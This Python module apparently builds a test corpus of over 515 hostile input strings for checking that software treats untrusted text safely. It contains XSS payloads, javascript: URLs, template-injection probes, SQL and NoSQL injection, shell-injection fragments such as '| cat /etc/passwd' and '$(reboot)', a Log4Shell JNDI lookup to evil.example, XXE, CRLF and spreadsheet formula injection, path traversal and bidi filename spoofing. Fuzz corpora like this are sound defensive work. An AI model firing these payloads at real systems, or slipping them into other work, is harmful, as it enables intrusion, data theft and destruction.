"""Texts that break out where somebody forgets that they are only text: more than 515, made here.

Those that could run set `window.hit`, so that a page can be asked whether one did. All are valid Unicode without NUL, so that
each can be a JSON string, a queue's name or a body; `count` says how many there are.
"""

import itertools


def _running():
    """What an HTML page might run: the ways into markup, each with several ways to act."""
    hit = "window.hit=1"
    acts = [f"<script>{hit}</script>", f"<img src=x onerror={hit}>", f"<svg onload={hit}>", f"<body onpageshow={hit}>",
            f"<details open ontoggle={hit}>x</details>", f"<input autofocus onfocus={hit}>",
            f"<iframe srcdoc=\"<script>parent.{hit}</script>\"></iframe>", f"<video><source onerror={hit}></video>",
            f"<a href=\"javascript:{hit}\">x</a>", f"<form action=\"javascript:{hit}\"><button>x</button></form>",
            f"<object data=\"data:text/html,<script>parent.{hit}</script>\"></object>",
            f"<math href=\"javascript:{hit}\">x</math>", f"<meta http-equiv=refresh content=\"0;url=javascript:{hit}\">",
            f"<link rel=stylesheet href=\"data:text/css,*{{display:none}}\" onload={hit}>"]
    ways = ["{}", "\">{}", "'>{}", "</title>{}", "</textarea>{}", "</pre>{}", "</style>{}", "--><!-- -->{}", "]]>{}",
            "</script>{}", "<!--{}-->", "<noscript>{}</noscript>", "<template>{}</template>", "\\\">{}"]
    yield from (way.format(act) for way, act in itertools.product(ways, acts))
    for name in ["onclick", "onmouseover", "onfocus", "onanimationstart", "onload", "onerror", "oninput", "onscroll"]:
        for quote in ["\"", "'", "`", " "]:
            yield f"x{quote} {name}={quote}{hit}{quote} autofocus tabindex=1 y={quote}"


def _addresses():
    hit = "window.hit=2"
    for scheme in ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
                   "javascript&colon;", "&#106;avascript:", "data:text/html,<script>", "data:text/html;base64,", "vbscript:",
                   "view-source:javascript:", "//evil.example/", "\\\\evil.example\\", "https://evil.example/?", "blob:"]:
        yield scheme + hit
        yield f"[x]({scheme}{hit})"


def _encodings():
    """Markup in the clothes of one decoding or two."""
    plain = "<script>window.hit=3</script>"
    signs = {"<": ["&lt;", "&LT;", "&#60;", "&#x3c;", "&#0000060", "\\u003c", "\\x3c", "%3C", "%253C", "+ADw-", "\uff1c", "\u2039"]}
    for number, sign in enumerate(signs["<"]):
        yield plain.replace("<", sign)
        yield plain.replace("<", "&amp;" + sign.lstrip("&")) + str(number)
    yield "\ufeff" + plain
    yield plain[::-1]
    yield "".join(sign + "\u200b" for sign in plain)
    yield "".join(sign + "\u00ad" for sign in plain)
    yield from (f"&{name};{name}" for name in ["nbsp", "zwj", "zwnj", "lrm", "rlm", "shy", "NewLine", "Tab", "quot", "apos"])


def _templates():
    hit = "window.hit=4"
    for begin, end in [("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("<?=", "?>"), ("{%", "%}"), ("[[", "]]"),
                       ("@{", "}"), ("$(", ")"), ("`", "`"), ("{{{", "}}}"), ("<#", ">")]:
        yield f"{begin}{hit}{end}"
        yield f"{begin}7*7{end}"
        yield f"{begin}constructor.constructor('{hit}')(){end}"
    yield from ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "undefined", "null", "NULL",
                "None", "nil", "NaN", "Infinity", "-Infinity", "true", "false", "void 0", "[object Object]", "(null)", "{}",
                "[]", "''", "\"\"", "0", "-0", "1e999", "0x1F", "1/0", "00", "1_000", "1,5", "9007199254740993", "-", "_", "."]


def _directions():
    controls = ["\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
                "\u061c"]
    for control in controls:
        yield f"invoice{control}gnp.exe"
        yield control * 20 + "end"
    yield from ["\u0645\u0631\u062d\u0628\u0627 world", "world \u05e9\u05dc\u05d5\u05dd 123", "\u05e9\u05dc\u05d5\u05dd (abc) [1]",
                "\u202eabc\u202c def", "\u0627\u0644\u0633\u0639\u0631: 12,50 (\u202bx\u202c)"]


def _invisible():
    for sign in ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u3164", "\u115f", "\u2800",
                 "\u00a0", "\u2003", "\u3000", "\u2028", "\u2029", "\u0085", "\u000b", "\u000c", "\r", "\n", "\t", "\x01", "\x07",
                 "\x08", "\x1b", "\x7f", "\ufffe", "\uffff", "\ufffd", "\ufffc", "\U000e0041", "\U0010ffff", "\ue000"]:
        yield f"a{sign}b"
        yield sign * 3 + "only"


def _scripts():
    yield "Z" + "\u0300\u0316\u0346\u0362" * 40 + "algo"
    yield "e\u0301 \u00e9 \u1e9b\u0323 \ufb01 \u212b \u2126"
    yield from (base + "\u0337\u0338\u20d2" * 8 for base in "Promo")
    yield from ["\u0440\u0430\u0443\u0440\u0430l.example", "\u03bf\u03c1\u03b5n", "\uff30\uff52\uff4f\uff4d\uff4f", "\U0001d4df\U0001d4fb\U0001d4f8",
                "\u0131\u0130\u0069\u0307", "\u017f\u00df\u1e9e", "\ufdfa", "\ufdfd" * 5, "\u0e01\u0e33\u0e33\u0e33", "\ua9c1\u0f3a\u0f3b",
                "\u6f22\u5b57 \u304b\u306a \ud55c\uae00", "\u4e2d" * 300, "\u0915\u094d\u0937\u094d\u0930", "\U00012031" * 5, "\U0001f600",
                "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f1e6\U0001f1f7\U0001f1e6", "\U0001f44d\U0001f3ff", "1\ufe0f\u20e3",
                "\u2764\ufe0f\u200d\U0001f525", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\U0001f600" * 100]


def _commands():
    """What other readers of the same text would take for orders."""
    yield from ["' OR '1'='1", "\"; DROP TABLE brand; --", "1; DELETE FROM x", "') UNION SELECT NULL--", "admin'/*", "' AND SLEEP(9)#",
                "{\"$gt\": \"\"}", "{\"$where\": \"sleep(9000)\"}", "$ne", "$where", "a.b.c", "$", "..", "this.constructor",
                "'; return true; var x='", "; ls -la", "| cat /etc/passwd", "$(reboot)", "`reboot`", "&& shutdown", "> /tmp/x",
                "!!", "~root", "*", "?", "-rf /", "--help", "%s%s%s%n", "%x" * 30, "%d %p", "{0} {1}", "%%", "\\", "\\\\", "\\0",
                "\\n", "\\'", "$HOME", "%PATH%", "${jndi:ldap://evil.example/a}", "() { :;}; echo x", "eval(window.hit=5)",
                "require('child_process')", "import os", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<![CDATA[x]]>", "<?xml version='1.0'?>",
                "*)(uid=*", "x\r\nSet-Cookie: a=b", "x%0d%0aLocation:%20//evil.example", "GET / HTTP/1.1\r\nHost: x\r\n\r\n"]
    for sign in ["=", "+", "-", "@", "\t=", "|"]:
        yield f"{sign}cmd|' /C calc'!A0"
        yield f"{sign}HYPERLINK(\"//evil.example\")"
    for dots in ["../", "..\\", "%2e%2e/", "..;/", "....//", "/..%c0%af"]:
        yield dots * 6 + "etc/passwd"
    yield from ["/etc/passwd", "C:\\Windows\\win.ini", "file:///etc/passwd", "CON", "NUL", "aux.txt", "\\\\?\\C:", "a/b?c#d", "#/settings",
                "?state=all&x", "%", "%zz", "%00", "%E0%A4%A", "a&b=c", "a+b", "a;b", "a|b", "a\\|b"]
    for code in ["2J", "31m", "?25l", "1A", "6n", "0c", "!p", "1000D"]:
        yield f"\x1b[{code}red"
        yield f"\u009b{code}x"
    yield from ["\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x1bc", "\x1b(0lqk", "\x07\x07", "\x08" * 9 + "gone"]


def _shapes():
    yield "x" * 20000
    yield "word " * 2000
    yield "<" * 3000
    yield "\"" * 500
    yield "{" * 300
    yield "[" * 300
    yield "\n" * 200 + "deep"
    yield "\t" * 200 + "wide"
    yield " " * 200 + "blank"
    yield "&" * 400
    yield "<b>" * 400
    yield "A\u030a" * 500
    yield "https://" + "a" * 2000 + ".example/"


def texts():
    """All of them, each once, in the same order always."""
    parts = [_running(), _addresses(), _encodings(), _templates(), _directions(), _invisible(), _scripts(), _commands(), _shapes()]
    return list(dict.fromkeys(itertools.chain.from_iterable(parts)))


count = len(texts())
assert count >= 515, count
assert all(text and "\x00" not in text and text.encode() for text in texts())
